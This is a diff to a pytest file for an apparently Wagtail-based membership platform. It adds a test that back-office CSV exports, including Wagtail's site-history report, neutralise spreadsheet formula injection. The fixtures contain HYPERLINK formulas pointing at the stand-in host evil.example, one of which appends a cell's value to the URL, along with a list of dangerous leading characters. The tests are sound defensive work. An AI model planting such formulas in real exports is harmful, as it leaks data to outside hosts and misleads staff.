@@ -1,10 +1,11 @@
-"""Every back-office listing that staff can download as a spreadsheet neutralises what members typed."""
+"""Every back-office download neutralises what members typed: the platform's listings, and Wagtail's own."""
 
 import csv
 import io
 
 import pytest
 from wagtail.admin.viewsets import viewsets
+from wagtail.log_actions import log
 
 from benefits.models import Perk, Provider
 from membership.admin_views import SafeSpreadsheetMixin
@@ -41,4 +42,18 @@ def test_a_members_offer_is_no_formula_in_the_perks_download(back_office):
     rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
     cells = [cell for row in rows[1:] for cell in row]
     assert '\'=HYPERLINK("https://evil.example/?x="&B2,"Open")' in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+def test_wagtails_own_reports_are_neutralised_too(back_office):
+    """The site history names each organisation edited, as its members typed it."""
+    organisation = make_organisation('=HYPERLINK("https://evil.example","Open")')
+    log(organisation, "wagtail.edit")
+
+    response = back_office.get("/admin/reports/site-history/", {"export": "csv"})
+
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert '\'=HYPERLINK("https://evil.example","Open")' in cells
     assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
